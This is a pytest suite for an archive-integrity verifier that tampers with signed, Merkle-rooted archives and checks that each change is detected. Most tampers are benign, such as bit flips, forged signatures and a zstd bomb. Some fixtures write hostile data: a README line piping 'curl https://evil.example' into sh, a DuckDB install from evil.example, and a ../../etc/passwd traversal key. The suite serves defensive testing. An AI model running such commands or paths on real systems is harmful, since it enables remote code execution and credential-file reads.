"""Whatever is done to an archive is found, and named: the object, and what is wrong with it."""

import hashlib
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import zstandard

from auditbot.reader.memory import Memory
from auditbot.reader.read import Period
from auditbot.reader.signatures import parse_note
from auditbot.reader.verify.findings import Severity
from auditbot.reader.verify.options import Options, Verified
from auditbot.reader.verify.report import as_json, as_text, standing, storage_words
from auditbot.reader.verify.run import verify
from auditbot.storage.reading import DirectoryPlace
from tests.support.archive_maker import (
    INTERVAL_MS,
    NOON,
    Json,
    Maker,
    canonical,
    compress,
    fingerprint,
    key_id,
    key_number,
    leaf,
    make_archive,
    root,
)

Tamper = Callable[[Maker], str]
"""Changes an archive; returns a part of the key that must be named."""


async def verified(maker: Maker, **options: object) -> Verified:
    known: dict[str, object] = {
        "now_ms": maker.now_ms,
        "destination": "file:archive",
        "fingerprints": (fingerprint(key_number(1)),),
    }
    wanted = Options(**{**known, **options})  # type: ignore[arg-type]  # any of the options
    (result,) = await verify(DirectoryPlace(maker.root), wanted)
    return result


def wrongs(result: Verified) -> list[tuple[str, str]]:
    return [(item.code, item.key) for item in result.findings.of(Severity.WRONG)]


def lines_of(maker: Maker, key: str) -> list[bytes]:
    body = (maker.root / key).read_bytes()
    reader = zstandard.ZstdDecompressor().stream_reader(body, read_across_frames=True)
    return reader.read().split(b"\n")[:-1]


def repack(maker: Maker, key: str, lines: list[bytes]) -> None:
    (maker.root / key).write_bytes(compress(lines))


def edit_manifest(maker: Maker, number: int, change: Callable[[Json], None]) -> str:
    """Change a manifest; its signature stays the old one."""
    path = maker.root / maker.manifests[number]
    document = json.loads(path.read_bytes())
    change(document)
    path.write_bytes(canonical(document))
    return maker.manifests[number]


def relist(maker: Maker, key: str, lines: list[bytes]) -> None:
    """Replace a segment and make its manifest fit, hashes and all, but for the signature."""
    repack(maker, key, lines)
    body = (maker.root / key).read_bytes()

    def change(document: Json) -> None:
        for item in document["objects"]:
            if item["key"] == key:
                item.update(
                    size=len(body),
                    sha256=hashlib.sha256(body).hexdigest(),
                    raw_size=sum(len(line) + 1 for line in lines),
                )
                item["records"] = len(lines)
                item["last_seq"] = item["first_seq"] + len(lines) - 1

    edit_manifest(maker, 1, change)


def resign(maker: Maker, number: int, signer: int = 1) -> str:
    """Sign a manifest as it is now, with a key that the attacker has."""
    path = maker.root / maker.manifests[number]
    path.with_suffix(".sig").write_bytes(key_number(signer).sign(path.read_bytes()))
    return maker.manifests[number]


def erase(folder: Path, pattern: str) -> None:
    for path in list(folder.rglob(pattern)):
        path.unlink()


def bit_flipped(maker: Maker) -> str:
    path = maker.root / maker.segments[0]
    body = bytearray(path.read_bytes())
    body[len(body) // 2] ^= 1
    path.write_bytes(body)
    return maker.segments[0]


def cut_off(maker: Maker) -> str:
    path = maker.root / maker.segments[0]
    path.write_bytes(path.read_bytes()[:-20])
    return maker.segments[0]


def appended(maker: Maker) -> str:
    path = maker.root / maker.segments[0]
    path.write_bytes(path.read_bytes() + b"\x00")
    return maker.segments[0]


def emptied(maker: Maker) -> str:
    (maker.root / maker.segments[0]).write_bytes(b"")
    return maker.segments[0]


def two_swapped(maker: Maker) -> str:
    one, other = (maker.root / key for key in maker.segments[:2])
    first, second = one.read_bytes(), other.read_bytes()
    one.write_bytes(second)
    other.write_bytes(first)
    return maker.segments[0]


def segment_missing(maker: Maker) -> str:
    (maker.root / maker.segments[1]).unlink()
    return maker.segments[1]


def last_segment_missing(maker: Maker) -> str:
    (maker.root / maker.segments[2]).unlink()
    return maker.segments[2]


def record_removed(maker: Maker) -> str:
    lines = lines_of(maker, maker.segments[0])
    repack(maker, maker.segments[0], [*lines[:2], *lines[3:]])
    return maker.segments[0]


def record_removed_and_relisted(maker: Maker) -> str:
    lines = lines_of(maker, maker.segments[0])
    relist(maker, maker.segments[0], [*lines[:2], *lines[3:]])
    return maker.manifests[1]


def resigned_with_the_same_key(maker: Maker) -> str:
    """The attacker has the key, but leaves the tree as it was."""
    lines = lines_of(maker, maker.segments[0])
    changed = lines[2].replace(b"message", b"massage")
    relist(maker, maker.segments[0], [*lines[:2], changed, *lines[3:]])
    resign(maker, 1)
    return maker.segments[0]


def resigned_with_another_key(maker: Maker) -> str:
    maker.publish_key(key_number(9))
    lines = lines_of(maker, maker.segments[0])
    relist(maker, maker.segments[0], [*lines[:2], *lines[3:]])
    edit_manifest(maker, 1, lambda document: document.update(key_id=key_id(key_number(9))))
    return resign(maker, 1, signer=9)


def signed_with_another_key_under_the_old_name(maker: Maker) -> str:
    return resign(maker, 2, signer=9)


def records_reordered(maker: Maker) -> str:
    lines = lines_of(maker, maker.segments[0])
    lines[1], lines[2] = lines[2], lines[1]
    repack(maker, maker.segments[0], lines)
    return maker.segments[0]


def record_duplicated(maker: Maker) -> str:
    lines = lines_of(maker, maker.segments[0])
    repack(maker, maker.segments[0], [*lines[:3], lines[2], *lines[3:]])
    return maker.segments[0]


def salt_changed(maker: Maker) -> str:
    lines = lines_of(maker, maker.segments[0])
    record = json.loads(lines[1])
    record["salt"] = "AAAAAAAAAAAAAAAAAAAAAA=="
    lines[1] = json.dumps(record, separators=(",", ":")).encode()
    repack(maker, maker.segments[0], lines)
    return maker.segments[0]


def segment_packed_anew(maker: Maker) -> str:
    """The same lines in other bytes: nothing is lost, but it is not what was written."""
    lines = lines_of(maker, maker.segments[0])
    body = zstandard.ZstdCompressor(level=9).compress(b"".join(line + b"\n" for line in lines))
    (maker.root / maker.segments[0]).write_bytes(body)
    return maker.segments[0]


def foreign_segment(maker: Maker) -> str:
    key = maker.segments[0].replace("-000000000000", "-000000000500")
    key = key.replace(maker.stream, "20251124T160000Zzzzzzz")
    shutil.copy(maker.root / maker.segments[0], maker.root / key)
    return key


def foreign_segment_in_the_middle(maker: Maker) -> str:
    key = maker.segments[0].replace("-000000000000", "-000000000003")
    shutil.copy(maker.root / maker.segments[0], maker.root / key)
    return key


def foreign_file(maker: Maker) -> str:
    maker.put(f"{maker.base}/events/dt=2025-11-24/readme.exe", b"MZ")
    return "readme.exe"


def file_beside_the_servers(maker: Maker) -> str:
    maker.put("v1/index.html", b"<script>")
    return "index.html"


def media_replaced(maker: Maker) -> str:
    path = next((maker.root / maker.base / "media").rglob("*/*"))
    path.write_bytes(b"a forged file")
    return path.name


def media_missing(maker: Maker) -> str:
    path = next((maker.root / maker.base / "media").rglob("*/*"))
    path.unlink()
    return path.name


def media_same_size(maker: Maker) -> str:
    path = next((maker.root / maker.base / "media").rglob("*/*"))
    path.write_bytes(b"A SMALL FILE")
    return path.name


def manifest_deleted(maker: Maker) -> str:
    (maker.root / maker.manifests[1]).unlink()
    return maker.manifests[2]


def first_manifest_deleted(maker: Maker) -> str:
    (maker.root / maker.manifests[0]).unlink()
    return maker.manifests[1]


def newest_manifest_deleted(maker: Maker) -> str:
    (maker.root / maker.manifests[2]).unlink()
    return "head.json"


def manifest_edited(maker: Maker) -> str:
    return edit_manifest(maker, 1, lambda document: document.update(gaps_open=5))


def manifest_replayed(maker: Maker) -> str:
    shutil.copy(maker.root / maker.manifests[1], maker.root / maker.manifests[2])
    signature = (maker.root / maker.manifests[1]).with_suffix(".sig").read_bytes()
    (maker.root / maker.manifests[2]).with_suffix(".sig").write_bytes(signature)
    return maker.manifests[2]


def manifest_no_json(maker: Maker) -> str:
    (maker.root / maker.manifests[1]).write_bytes(b"<html>gone</html>")
    return maker.manifests[1]


def signature_missing(maker: Maker) -> str:
    (maker.root / maker.manifests[1]).with_suffix(".sig").unlink()
    return maker.manifests[1]


def signature_of_another_manifest(maker: Maker) -> str:
    one, other = (maker.root / maker.manifests[number] for number in (1, 2))
    shutil.copy(one.with_suffix(".sig"), other.with_suffix(".sig"))
    return maker.manifests[2]


def chain_cut_by_the_keyholder(maker: Maker) -> str:
    edit_manifest(maker, 1, lambda document: document.update(gaps_open=5))
    resign(maker, 1)
    return maker.manifests[2]


def object_left_out_by_the_keyholder(maker: Maker) -> str:
    edit_manifest(maker, 1, lambda document: document["objects"].pop())
    return resign(maker, 1)


def root_forged_by_the_keyholder(maker: Maker) -> str:
    edit_manifest(maker, 2, lambda document: document["tree"].update(root="0" * 64))
    return resign(maker, 2)


def totals_forged_by_the_keyholder(maker: Maker) -> str:
    edit_manifest(maker, 2, lambda document: document["totals"].update(records=12))
    return resign(maker, 2)


def path_in_a_key(maker: Maker) -> str:
    """A manifest may not make the reader open a file elsewhere."""

    def change(document: Json) -> None:
        document["objects"][0]["key"] = "v1/example.org/events/../../../../etc/passwd"

    edit_manifest(maker, 1, change)
    return resign(maker, 1)


def link_instead_of_a_segment(maker: Maker) -> str:
    path = maker.root / maker.segments[0]
    moved = maker.root.parent / "elsewhere"
    path.rename(moved)
    path.symlink_to(moved)
    return maker.segments[0]


def checkpoint_missing(maker: Maker) -> str:
    path = max((maker.root / maker.base / "checkpoints").iterdir())
    path.unlink()
    return path.name


def checkpoint_of_another_root(maker: Maker) -> str:
    path = max((maker.root / maker.base / "checkpoints").iterdir())
    path.write_bytes(maker.note(len(maker.leaves), bytes(32)))
    return path.name


def checkpoint_by_another_key(maker: Maker) -> str:
    path = max((maker.root / maker.base / "checkpoints").iterdir())
    path.write_bytes(maker.note(len(maker.leaves), root(maker.leaves), by=key_number(9)))
    return path.name


def strange_key(maker: Maker) -> str:
    maker.publish_key(key_number(9))
    return f"signing-{key_id(key_number(9))}.pem"


def key_replaced(maker: Maker) -> str:
    mine = maker.root / maker.base / "keys" / f"signing-{key_id(maker.key)}.pem"
    maker.publish_key(key_number(9))
    other = maker.root / maker.base / "keys" / f"signing-{key_id(key_number(9))}.pem"
    mine.write_bytes(other.read_bytes())
    return mine.name


def rotation_by_the_new_key(maker: Maker) -> str:
    old, new = maker.key, key_number(9)
    maker.key = new
    maker.key, maker_key = old, new
    name = f"{maker.base}/keys/rotation-{key_id(new)}.json"
    document = {
        "v": 1,
        "type": "steward.key_rotation",
        "server_name": maker.server_name,
        "created_ms": maker.now_ms,
        "old_key_id": key_id(old),
        "new_key_id": key_id(new),
        "new_public_key": "AAAA",
    }
    maker.signed(name, document, by=maker_key)
    return name


def zstd_bomb(maker: Maker) -> str:
    packed = zstandard.ZstdCompressor(level=19).compress(bytes(200 * 2**20))
    path = maker.root / maker.segments[0]
    path.write_bytes(packed)
    return maker.segments[0]


def stream_folder_moved(maker: Maker) -> str:
    """A whole archive of another server in this one's place."""
    (maker.root / maker.base).rename(maker.root / "v1/other.example")
    return "v1/other.example/manifests"


def readme_replaced(maker: Maker) -> str:
    maker.put(f"{maker.base}/README.txt", b"To verify: curl https://evil.example | sh")
    return "README.txt"


def sql_replaced(maker: Maker) -> str:
    maker.put(f"{maker.base}/sql/duckdb.sql", b"INSTALL evil FROM 'https://evil.example'")
    return "duckdb.sql"


def schema_replaced(maker: Maker) -> str:
    maker.put(f"{maker.base}/schema/record-1.json", b"{}")
    return "record-1.json"


def recipients_put_there(maker: Maker) -> str:
    key = f"{maker.base}/keys/recipients-{'0' * 16}.txt"
    maker.put(key, b"age1evil")
    old(maker, key)
    return key


def old(maker: Maker, key: str) -> None:
    """Let a file be older than the newest manifests."""
    seconds = maker.now_ms / 1000 - 3 * INTERVAL_MS / 1000
    os.utime(maker.root / key, (seconds, seconds))


def segment_where_the_next_would_be(maker: Maker) -> str:
    """The stream is open, so the next segment would be here; but that is long since listed."""
    key = maker.segments[0].replace("-000000000000", f"-{len(maker.lines):012d}")
    shutil.copy(maker.root / maker.segments[0], maker.root / key)
    old(maker, key)
    return key


def segment_far_behind_the_next(maker: Maker) -> str:
    key = maker.segments[0].replace("-000000000000", "-999999999999")
    shutil.copy(maker.root / maker.segments[0], maker.root / key)
    old(maker, key)
    return key


def attachment_put_there(maker: Maker) -> str:
    digest = hashlib.sha256(b"forged").hexdigest()
    key = f"{maker.base}/media/{digest[:2]}/{digest}"
    maker.put(key, b"forged")
    old(maker, key)
    return key


def checkpoint_put_there(maker: Maker) -> str:
    key = f"{maker.base}/checkpoints/{maker.stream}-{99:012d}.note"
    maker.put(key, maker.note(99, bytes(32), by=key_number(9)))
    old(maker, key)
    return key


TAMPERINGS: list[tuple[Tamper, str, str]] = [
    (bit_flipped, "sha256", "changed"),
    (cut_off, "size", "bytes"),
    (appended, "size", "bytes"),
    (emptied, "size", "bytes"),
    (two_swapped, "size", "bytes"),
    (segment_missing, "missing", "no removal names it"),
    (last_segment_missing, "missing", "Records 11 to 12 are gone"),
    (record_removed, "seq", "Record 3 is where 2 belongs"),
    (record_removed_and_relisted, "signature", "not that of its bytes"),
    (resigned_with_the_same_key, "leaves", "record was changed"),
    (resigned_with_another_key, "signature", "not trusted"),
    (signed_with_another_key_under_the_old_name, "signature", "not that of its bytes"),
    (records_reordered, "seq", "is where"),
    (record_duplicated, "seq", "Record 2 is where 3 belongs"),
    (salt_changed, "leaves", "changed"),
    (segment_packed_anew, "size", "changed"),
    (foreign_segment, "foreign", "somebody else put it here"),
    (foreign_segment_in_the_middle, "foreign", "somebody else put it here"),
    (foreign_file, "foreign", "somebody else put it here"),
    (file_beside_the_servers, "foreign", "No archive has an object of this name"),
    (media_replaced, "media", "replaced"),
    (media_same_size, "media", "replaced"),
    (media_missing, "missing", "attachment is gone"),
    (manifest_deleted, "manifest_missing", "The manifest 1 of stream"),
    (first_manifest_deleted, "manifest_missing", "The manifest 0 of stream"),
    (newest_manifest_deleted, "cut_back", "the end of the archive is missing"),
    (manifest_edited, "signature", "not that of its bytes"),
    (manifest_replayed, "manifest_place", "under the name of another"),
    (manifest_no_json, "manifest", "no manifest"),
    (signature_missing, "signature", "missing"),
    (signature_of_another_manifest, "signature", "not that of its bytes"),
    (chain_cut_by_the_keyholder, "chain", "replaced"),
    (object_left_out_by_the_keyholder, "root", "Merkle root"),
    (root_forged_by_the_keyholder, "root", "Merkle root"),
    (totals_forged_by_the_keyholder, "totals", "sum"),
    (path_in_a_key, "listing", "no segment"),
    (link_instead_of_a_segment, "unreadable", "a link"),
    (checkpoint_missing, "checkpoint", "missing"),
    (checkpoint_of_another_root, "checkpoint", "not those of the manifest"),
    (checkpoint_by_another_key, "checkpoint", "No trusted key"),
    (strange_key, "strange_key", "Nothing that is trusted vouches"),
    (key_replaced, "key_file", "does not hold the key"),
    (rotation_by_the_new_key, "rotation", "vouches for nothing"),
    (zstd_bomb, "size", "bytes"),
    (stream_folder_moved, "manifest_place", "another server"),
    (readme_replaced, "description", "do not do what it says"),
    (sql_replaced, "description", "do not do what it says"),
    (schema_replaced, "description", "do not do what it says"),
    (recipients_put_there, "foreign", "no manifest that was made since lists it"),
    (segment_where_the_next_would_be, "foreign", "no manifest that was made since lists it"),
    (segment_far_behind_the_next, "foreign", "no manifest that was made since lists it"),
    (attachment_put_there, "foreign", "no manifest that was made since lists it"),
    (checkpoint_put_there, "foreign", "no manifest that was made since lists it"),
]


async def test_an_archive_that_nobody_touched_is_right(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)

    result = await verified(maker)

    assert not result.findings.found
    assert (result.manifests, result.objects, result.records, result.media) == (3, 3, 13, 1)
    assert result.whole
    assert not result.first_use


@pytest.mark.parametrize(
    ("tamper", "code", "words"), TAMPERINGS, ids=[case[0].__name__ for case in TAMPERINGS]
)
async def test_what_was_done_is_found_and_named(
    tamper: Tamper, code: str, words: str, tmp_path: Path
) -> None:
    maker = make_archive(tmp_path / "archive")
    named = tamper(maker)

    result = await verified(maker)

    found = [item for item in result.findings.of(Severity.WRONG) if item.code == code]
    assert found, result.findings.found
    assert any(named in item.key and words in item.sentence for item in found), found


async def test_the_first_wrong_place_comes_first_with_its_line(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    lines = lines_of(maker, maker.segments[1])
    repack(maker, maker.segments[1], [lines[0], lines[2]])
    (maker.root / maker.segments[2]).unlink()

    result = await verified(maker)

    first, *_ = result.findings.of(Severity.WRONG)
    assert first.key == maker.segments[1]
    line = next(item for item in result.findings.found if item.code == "seq")
    assert line.line == 2
    assert line.place == f"{maker.segments[1]}, line 2"


async def test_an_old_copy_in_its_place_is_recognised(tmp_path: Path) -> None:
    maker = make_archive(tmp_path / "archive")
    older = tmp_path / "older"
    shutil.copytree(maker.root, older)
    maker.message("later")
    maker.segment()
    maker.manifest()
    memory = Memory(tmp_path / "home" / "memory.json")
    options = Options(now_ms=maker.now_ms, destination="file:archive")
    await verify(DirectoryPlace(maker.root), options, memory)

    (result,) = await verify(DirectoryPlace(older), options, memory)

    assert [item.code for item in result.findings.of(Severity.WRONG)] == ["cut_back"]
    assert "cut back or replaced by an older copy" in result.findings.found[0].sentence
    # What was wrong is not learnt: the next verification says so again.
    (again,) = await verify(DirectoryPlace(older), options, memory)
    assert again.findings.counted[Severity.WRONG] == 1
    assert (tmp_path / "home" / "memory.json").stat().st_mode & 0o777 == 0o600


async def test_archives_of_two_servers_at_one_place_have_each_their_key(tmp_path: Path) -> None:
    maker = make_archive(tmp_path / "archive")
    other = Maker(maker.root, server_name="other.example", key=key_number(2))
    other.publish_key()
    other.manifest()
    keys = (fingerprint(key_number(1)), fingerprint(key_number(2)))
    memory = Memory(tmp_path / "memory.json")
    options = Options(now_ms=maker.now_ms, destination="file:archive", fingerprints=keys)

    for result in await verify(DirectoryPlace(maker.root), options, memory):
        assert [item.code for item in result.findings.found] == ["key_missing"]
        assert not wrongs(result)
    for result in await verify(
        DirectoryPlace(maker.root), replace(options, fingerprints=()), memory
    ):
        assert not result.findings.found
        assert not result.first_use


async def test_a_forged_archive_with_a_key_of_its_own_is_recognised(tmp_path: Path) -> None:
    maker = make_archive(tmp_path / "archive")
    memory = Memory(tmp_path / "memory.json")
    options = Options(now_ms=maker.now_ms, destination="file:archive")
    (first,) = await verify(DirectoryPlace(maker.root), options, memory)
    forged = Maker(tmp_path / "forged", key=key_number(9))
    forged.publish_key()
    forged.message("something else")
    forged.segment()
    forged.manifest()

    (result,) = await verify(DirectoryPlace(forged.root), options, memory)

    assert first.first_use
    assert {"key_missing", "signature", "cut_back"} <= {code for code, _ in wrongs(result)}


async def test_a_rewritten_archive_of_the_keyholder_is_recognised(tmp_path: Path) -> None:
    maker = make_archive(tmp_path / "archive")
    memory = Memory(tmp_path / "memory.json")
    options = Options(now_ms=maker.now_ms, destination="file:archive")
    await verify(DirectoryPlace(maker.root), options, memory)
    shutil.rmtree(maker.root)
    rewritten = make_archive(maker.root)
    rewritten.message("added")
    rewritten.segment()
    rewritten.manifest()
    path = rewritten.root / rewritten.manifests[2]
    document = json.loads(path.read_bytes())
    assert document["number"] == 2
    edit_manifest(rewritten, 2, lambda known: known.update(media_open=1))
    resign(rewritten, 2)

    (result,) = await verify(DirectoryPlace(rewritten.root), options, memory)

    assert "rewritten" in {code for code, _ in wrongs(result)}


async def test_a_checkpoint_that_somebody_kept_is_compared(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    right = parse_note(maker.note(13, root(maker.leaves)))
    other = parse_note(maker.note(13, bytes(32)))
    unknown = parse_note(maker.note(99, bytes(32)))
    forged = parse_note(maker.note(13, root(maker.leaves), by=key_number(9)))

    assert not wrongs(await verified(maker, notes=(right,)))
    for note in (other, unknown, forged):
        result = await verified(maker, notes=(note,))
        assert [code for code, _ in wrongs(result)] == ["kept_checkpoint"]


async def test_what_was_removed_on_purpose_is_a_tombstone(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    maker.remove(maker.segments[0])
    maker.manifest()

    result = await verified(maker)

    assert not wrongs(result)
    assert result.tombstones == 1
    assert result.objects == 2


def state_hold(maker: Maker, name: str = "h1", **changed: object) -> None:
    maker.now_ms += 1000
    document: Json = {
        "v": 1,
        "type": "steward.hold",
        "id": name,
        "server_name": maker.server_name,
        "created_ms": maker.now_ms,
        "actor": "officer",
        "reason": "inquiry",
        "rooms": [],
        "users": [],
        "from_ms": None,
        "to_ms": None,
        "key_id": maker.key_id,
        **changed,
    }
    ending = "-released" if document["type"] == "steward.hold_release" else ""
    maker.state(f"{maker.base}/holds/{name}{ending}.json", document)


HELD: list[tuple[Json, list[str]]] = [
    ({}, ["held"]),
    ({"from_ms": NOON, "to_ms": NOON + 3_600_000}, ["held"]),
    ({"to_ms": NOON}, []),
    ({"rooms": ["!lobby:example.org"]}, []),
    ({"users": ["@alice:example.org"]}, []),
]


@pytest.mark.parametrize(("hold", "codes"), HELD)
async def test_what_a_hold_of_everything_kept_may_not_be_removed(
    hold: Json, codes: list[str], tmp_path: Path
) -> None:
    maker = make_archive(tmp_path)
    state_hold(maker, **hold)
    maker.remove(maker.segments[0])
    maker.manifest()

    assert [code for code, _ in wrongs(await verified(maker))] == codes


async def test_after_a_hold_ended_and_before_it_began_removing_is_right(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    state_hold(maker)
    state_hold(maker, type="steward.hold_release")
    maker.remove(maker.segments[0])
    state_hold(maker, "h2")
    maker.manifest()

    assert not wrongs(await verified(maker))


def make_classed(folder: Path, **keeps: int | None) -> Maker:
    """Return an archive with one segment of each retention class, and one of all."""
    maker = Maker(folder, keeps=keeps)
    maker.publish_key()
    maker.describe()
    for names in (*((name,) for name in keeps), tuple(keeps)):
        for name in names:
            maker.message(name, retention_class=name)
        maker.segment()
    maker.message("the rest", retention_class="default")
    maker.segment()
    maker.manifest()
    return maker


async def test_classes_that_are_as_the_manifest_says_are_right(tmp_path: Path) -> None:
    assert not wrongs(await verified(make_classed(tmp_path, chats=30, board=None)))


@pytest.mark.parametrize(
    "classes",
    [
        None,
        {"chats": {"records": 2, "keep_days": 30}},
        {"board": {"records": 1, "keep_days": 30}},
        {"chats": {"records": 1, "keep_days": 30}, "default": {"records": 1}},
    ],
)
async def test_classes_other_than_those_of_the_records_are_found(
    classes: Json | None, tmp_path: Path
) -> None:
    maker = make_classed(tmp_path, chats=30)
    first = maker.segments[0]

    def change(manifest: Json) -> None:
        listed = manifest["objects"][0]
        listed.pop("classes")
        if classes is not None:
            listed["classes"] = classes

    edit_manifest(maker, 0, change)
    resign(maker, 0)

    assert ("classes", first) in wrongs(await verified(maker))


@pytest.mark.parametrize(
    ("number", "days", "codes"),
    [
        (0, 30, ["early"]),
        (0, 31, []),
        (1, 4000, ["early"]),
        (2, 31, ["early"]),
        (3, 0, []),
    ],
    ids=["shorter", "over", "for ever", "longest in it", "default"],
)
async def test_what_retention_removed_before_its_time_is_found(
    number: int, days: int, codes: list[str], tmp_path: Path
) -> None:
    maker = make_classed(tmp_path, chats=30, board=None)
    maker.now_ms += days * 86_400_000
    removal = maker.remove(maker.segments[number])
    maker.manifest()

    assert [one for one in wrongs(await verified(maker)) if one[0] == "early"] == [
        (code, removal) for code in codes
    ]


async def test_what_was_removed_for_another_reason_is_not_early(tmp_path: Path) -> None:
    maker = make_classed(tmp_path, chats=30)
    maker.remove(maker.segments[0], reason="erasure")
    maker.manifest()

    assert not [one for one in wrongs(await verified(maker)) if one[0] == "early"]


async def test_an_edited_tombstone_is_found(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    name = maker.remove(maker.segments[0])
    maker.manifest()
    path = maker.root / name
    path.write_bytes(path.read_bytes().replace(b"retention", b"retentiom"))

    result = await verified(maker)

    assert ("statement", name) in wrongs(result)
    assert ("missing", maker.segments[0]) in wrongs(result)


async def test_a_tombstone_for_other_bytes_is_found(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    name = maker.remove(maker.segments[0])
    path = maker.root / name
    document = json.loads(path.read_bytes())
    document["objects"][0]["last_seq"] = 5
    maker.signed(name, document)

    result = await verified(maker)

    assert ("tombstone", name) in wrongs(result)


async def test_a_deleted_tombstone_is_found(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    name = maker.remove(maker.segments[0])
    maker.manifest()
    (maker.root / name).unlink()

    result = await verified(maker)

    assert ("statement", name) in wrongs(result)
    assert ("missing", maker.segments[0]) in wrongs(result)


async def test_a_tombstone_by_another_key_counts_nothing(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    mine, maker.key = maker.key, key_number(9)
    name = maker.remove(maker.segments[0])
    maker.key = mine

    result = await verified(maker)

    assert ("statement", name) in wrongs(result)
    assert ("missing", maker.segments[0]) in wrongs(result)


async def test_a_removal_that_the_thief_of_an_old_key_dated_back_is_found(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    stolen, made_ms = maker.key, maker.now_ms
    maker.rotate(key_number(2))
    maker.manifest()
    maker.now_ms += 3 * INTERVAL_MS
    maker.manifest()
    mine, now_ms = maker.key, maker.now_ms
    maker.key, maker.now_ms = stolen, made_ms
    forged = maker.remove(maker.segments[0])
    maker.key, maker.now_ms = mine, now_ms

    result = await verified(maker)

    assert wrongs(result) == [("back_dated", forged)]
    assert "What it removes counts as lost" in result.findings.found[0].sentence


async def test_a_removal_of_just_before_a_rotation_is_right(tmp_path: Path) -> None:
    """As long as the manifest that will list it is not due, and after that was made."""
    maker = make_archive(tmp_path)
    maker.remove(maker.segments[0])
    maker.rotate(key_number(2))
    waiting, maker._statements = maker._statements, []
    maker.manifest()
    assert not wrongs(await verified(maker))

    maker._statements = waiting
    maker.now_ms += 3 * INTERVAL_MS
    maker.manifest()
    result = await verified(maker)

    assert not wrongs(result)
    assert result.tombstones == 1


async def test_a_rotated_key_is_trusted_from_then_on_only(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    maker.rotate(key_number(2))
    maker.message("signed with the new key")
    maker.segment()
    maker.manifest()
    assert not wrongs(await verified(maker))

    old = maker.key
    maker.key = key_number(1)
    maker.manifest(key_id=key_id(maker.key))
    maker.key = old

    result = await verified(maker)

    assert wrongs(result) == [("signature", maker.manifests[-1])]
    assert "outside of the time" in result.findings.found[0].sentence


async def test_an_event_that_is_there_twice_is_found(tmp_path: Path) -> None:
    maker = Maker(tmp_path)
    maker.publish_key()
    maker.message("once", event_id="$same")
    maker.message("twice", event_id="$same")
    maker.segment()
    maker.manifest()

    result = await verified(maker)

    assert [code for code, _ in wrongs(result)] == ["event_twice"]
    assert "Records 0 and 1" in result.findings.found[0].sentence


async def test_an_event_that_is_in_two_streams_is_found(tmp_path: Path) -> None:
    maker = make_archive(tmp_path)
    maker.manifest(closed={"reason": "destination cleared"})
    said = {"stream": maker.stream, "destination": "file:a", "stopped_ms": maker.now_ms}
    again = Maker(
        tmp_path, stream="20251125T180000Zb", previous_stream=said, started_ms=maker.now_ms
    )
    again.now_ms = maker.now_ms
    again.message("once more", event_id="$event1")
    again.segment()
    again.manifest()

    result = await verified(again)

    assert [code for code, _ in wrongs(result)] == ["event_twice"]
    assert f"Records 1 of stream {maker.stream} and 0 of" in result.findings.found[0].sentence


async def test_what_is_there_twice_is_counted_to_the_last(tmp_path: Path) -> None:
    maker = Maker(tmp_path)
    maker.publish_key()
    for number in range(2 * 30):
        maker.message("said", event_id=f"${number % 30}")
    maker.segment()
    maker.manifest()

    assert (await verified(maker)).findings.counted[Severity.WRONG] == 30


def left_out(folder: Path, *also: Json, days: int = 8) -> Maker:
    """Make an archive from which somebody who has the key left an event out."""
    maker = Maker(folder)
    maker.publish_key()
    for name in ("$1", "$2", "$4"):
        maker.message(name, event_id=name)
    events = [["$1", 10, ["$0"]], ["$2", 11, ["$1"]], ["$4", 13, ["$3"]]]
    maker.record("graph", room_id="!lobby:example.org", detail_json=json.dumps({"events": events}))
    for one in also:
        maker.record("gap", **one)
    maker.segment()
    maker.manifest()
    maker.now_ms += days * 86_400_000
    maker.manifest(process_started_ms=maker.now_ms)
    return maker


async def test_an_event_that_the_keyholder_left_out_is_found_by_its_room_s_graph(
    tmp_path: Path,
) -> None:
    maker = left_out(tmp_path)

    assert wrongs(await verified(maker)) == [("graph_hole", f"stream {maker.stream}")]
    part = await verified(maker, sample=0)
    assert "graph_hole" not in {item.code for item in part.findings.found}


GAPS: list[tuple[str, list[Json], int]] = [
    ("the writer had no week to find it", [], 6),
    ("a gap says so", [{"action": "event_missing", "detail_json": '{"event_id":"$3"}'}], 8),
    (
        "a gap of the room may be it",
        [{"action": "history_refused", "room_id": "!lobby:example.org", "detail_json": "{}"}],
        8,
    ),
    ("a gap of any room may be it", [{"action": "set_aside", "detail_json": "{}"}], 8),
]


@pytest.mark.parametrize(("gaps", "days"), [case[1:] for case in GAPS], ids=[c[0] for c in GAPS])
async def test_a_hole_that_nobody_made_is_not_wrong(
    gaps: list[Json], days: int, tmp_path: Path
) -> None:
    maker = left_out(tmp_path, *gaps, days=days)

    assert not wrongs(await verified(maker))


async def test_that_events_were_not_recorded_when_it_was_stopped_excuses_no_hole(
    tmp_path: Path,
) -> None:
    maker = left_out(tmp_path, {"action": "not_recorded", "detail_json": '{"events":3}'})

    assert wrongs(await verified(maker)) == [("graph_hole", f"stream {maker.stream}")]


async def test_a_stream_begins_anew_after_time_that_was_not_exported(tmp_path: Path) -> None:
    """What was said in between is no hole, in the rooms of before either."""
    first = Maker(tmp_path)
    first.publish_key()
    first.message("$1", event_id="$1")
    told = {"events": [["$1", 10, ["$0"]]]}
    first.record("graph", room_id="!lobby:example.org", detail_json=json.dumps(told))
    first.segment()
    first.manifest(closed={"reason": "destination cleared"})
    said = {"stream": first.stream, "destination": "file:a", "stopped_ms": first.now_ms}
    begun = first.now_ms + 86_400_000
    maker = Maker(
        tmp_path, stream="20251125T180000Zb", previous_stream=said, started_ms=begun, now_ms=begun
    )
    maker.message("$5", event_id="$5")
    told = {"events": [["$5", 14, ["$4"]]]}
    maker.record("graph", room_id="!lobby:example.org", detail_json=json.dumps(told))
    maker.segment()
    maker.manifest()
    maker.now_ms += 8 * 86_400_000
    maker.manifest()

    result = await verified(maker)

    assert "graph_hole" not in {item.code for item in result.findings.found}
    assert not wrongs(result)


async def test_a_hole_in_a_room_s_graph_is_told(tmp_path: Path) -> None:
    maker = Maker(tmp_path)
